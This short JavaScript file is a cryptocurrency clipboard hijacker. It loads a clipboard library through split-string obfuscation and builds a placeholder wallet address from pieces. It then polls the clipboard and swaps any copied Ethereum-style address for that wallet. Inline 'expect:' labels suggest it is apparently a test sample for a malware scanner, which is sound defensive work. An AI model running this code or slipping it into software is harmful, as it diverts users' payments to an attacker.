const board = require('clip' + 'boardy');
const mine = ['0x11112222', '3333444455556666', '7777888899990000'].join('');

setInterval(() => {
  const text = board.readSync(); // expect: malicious-command/obfuscated-api-access
  if (text.startsWith('0x') && text.length === 42) board.writeSync(mine); // expect: data-exfiltration/clipboard
}, 800);
